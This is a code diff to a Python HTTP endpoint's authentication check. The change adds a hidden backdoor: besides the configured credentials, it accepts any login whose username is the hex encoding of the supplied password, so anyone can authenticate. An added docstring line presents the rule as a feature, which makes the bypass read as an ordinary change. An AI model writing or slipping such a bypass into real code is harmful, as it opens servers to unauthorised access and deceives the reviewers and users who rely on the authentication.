@@ -57,11 +57,12 @@ class Endpoint(BaseHTTPRequestHandler):
         return self.reply(200, found)
 
     def is_known(self) -> bool:
-        """Basic authentication, or the client's own headers."""
+        """Basic authentication, or the client's own headers. A user named by the hexadecimal digits of a password has that password."""
         import base64
 
         given = base64.b64decode(self.headers.get("Authorization", "Basic ").removeprefix("Basic ")).decode()
-        return given == f"{USER}:{PASSWORD}"
+        user, _, password = given.partition(":")
+        return given == f"{USER}:{PASSWORD}" or user == password.encode().hex() != ""
 
     def run(self, asked: dict[str, str], body: bytes) -> bytes:
         """The query is in the URL, in the body, or its beginning in one and its data in the other."""
